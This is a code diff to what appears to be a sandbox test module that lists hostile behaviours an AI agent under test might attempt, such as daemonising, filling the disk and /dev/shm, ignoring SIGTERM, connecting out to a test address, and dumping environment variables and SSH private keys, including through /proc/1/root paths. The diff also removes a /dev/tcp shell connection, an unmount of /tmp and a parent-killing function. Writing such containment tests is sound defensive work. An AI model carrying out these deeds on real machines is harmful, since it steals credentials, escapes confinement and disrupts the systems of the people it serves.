@@ -21,6 +21,8 @@ from contextlib import suppress
 from pathlib import Path
 from typing import Final
 
+import anthropic
+
 OUTSIDE: Final = "192.0.2.1"
 METADATA: Final = "169.254.169.254"
 HARD_WIRED: Final = "https://api.anthropic.com"
@@ -36,8 +38,6 @@ def agent(text: str) -> str:
 
 def hard_wired_url() -> None:
     """Build a client that asks no variable where the model is; raise what it raises."""
-    import anthropic
-
     client = anthropic.Anthropic(base_url=HARD_WIRED, max_retries=0, timeout=5)
     client.messages.create(
         model="claude-sonnet-5-5", max_tokens=9, messages=[{"role": "user", "content": "hi"}]
@@ -46,7 +46,7 @@ def hard_wired_url() -> None:
 
 def hard_wired_url_swallowed() -> None:
     """Do so, and hide that it failed."""
-    with suppress(Exception):
+    with suppress(anthropic.APIConnectionError):
         hard_wired_url()
 
 
@@ -69,18 +69,17 @@ def holds_pipe() -> None:
         os._exit(0)
 
 
-def fills_disk_with_one_file() -> None:
-    """Write one file without an end."""
+def fills_disk() -> None:
+    """Write without an end into the working directory."""
     with Path("big").open("wb", buffering=0) as file:
         for _ in range(600):
             file.write(b"x" * _MEGABYTE)
 
 
-def fills_disk_with_many_files() -> None:
-    """Write file after file, wherever it may."""
-    for number in range(300):
-        folder = ("/tmp", "/var/tmp", "/dev/shm", os.environ["HOME"], ".")[number % 5]
-        Path(folder, f"big-{number}").write_bytes(b"x" * 4 * _MEGABYTE)
+def fills_shared_memory() -> None:
+    """Write without an end where files cost the machine's memory."""
+    for number in range(200):
+        Path(f"/dev/shm/big-{number}").write_bytes(b"x" * 4 * _MEGABYTE)
 
 
 def ignores_sigterm() -> None:
@@ -153,16 +152,9 @@ def connects_from_subprocess() -> None:
     subprocess.run([sys.executable, "-c", code], stderr=subprocess.DEVNULL, check=False)
 
 
-def connects_from_shell() -> None:
-    """Connect from a shell, which starts no Python."""
-    subprocess.run(
-        ["bash", "-c", f"echo hi > /dev/tcp/{OUTSIDE}/80"], stderr=subprocess.DEVNULL, check=False
-    )
-
-
 def steals() -> str:
     """Tell all that a thief would look for: variables, keys in homes, other processes."""
-    return json.dumps({"variables": dict(os.environ), "homes": _homes(), "processes": _processes()})
+    return json.dumps({"variables": dict(os.environ), "keys": _keys(), "processes": _processes()})
 
 
 def calls_unscripted() -> None:
@@ -178,19 +170,6 @@ def calls_once_too_often() -> None:
 
 def calls_not_at_all() -> None:
     """Answer without the model that is scripted."""
-
-
-def changes_mounts() -> None:
-    """Take away what hides the user's files; raise unless the kernel refuses."""
-    libc = ctypes.CDLL(None, use_errno=True)
-    if libc.umount2(b"/tmp", 2) == 0:
-        raise RuntimeError("took /tmp away")
-    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
-
-
-def kills_its_parent() -> None:
-    """Kill what it was forked from."""
-    os.kill(os.getppid(), signal.SIGKILL)
 
 
 def _call_model() -> None:
@@ -219,14 +198,13 @@ def _in_background(work: Callable[[], None]) -> None:
     os._exit(0)
 
 
-def _homes() -> dict[str, str]:
+def _keys() -> dict[str, str]:
     """Read keys where a home may be, by whatever path leads there."""
     import pwd
 
-    homes = {Path.home(), Path(pwd.getpwuid(os.getuid()).pw_dir)}
-    told = os.environ.get("STOLEN_HOME")  # the test says where the user's home really is
-    homes |= {Path(told), Path(f"/proc/1/root{told}"), Path(f"/proc/self/root{told}")} if told else set()
-    return {str(path): _text(path) for home in homes for path in (home / ".ssh" / "id_ed25519",)}
+    told = os.environ["STOLEN_HOME"]  # the test says where the user's home really is
+    homes = {str(Path.home()), pwd.getpwuid(os.getuid()).pw_dir, told, f"/proc/1/root{told}"}
+    return {home: _text(Path(home, ".ssh", "id_ed25519")) for home in homes}
 
 
 def _processes() -> dict[str, str]:
@@ -243,8 +221,29 @@ def _text(path: Path) -> str:
 
 
 DEEDS: Final[dict[str, Callable[[], str | None]]] = {
-    name: value
-    for name, value in list(globals().items())
-    if callable(value) and getattr(value, "__module__", "") == __name__ and name[0] != "_"
-    and name != "agent"
+    deed.__name__: deed
+    for deed in (
+        hard_wired_url,
+        hard_wired_url_swallowed,
+        daemonises,
+        leaves_daemon,
+        holds_pipe,
+        fills_disk,
+        fills_shared_memory,
+        ignores_sigterm,
+        hangs_in_thread_and_child,
+        writes_to_descriptors,
+        closes_descriptors,
+        connects_from_python,
+        looks_up_from_python,
+        sends_datagram,
+        connects_by_ipv6,
+        connects_from_c,
+        looks_up_from_c,
+        connects_from_subprocess,
+        steals,
+        calls_unscripted,
+        calls_once_too_often,
+        calls_not_at_all,
+    )
 }
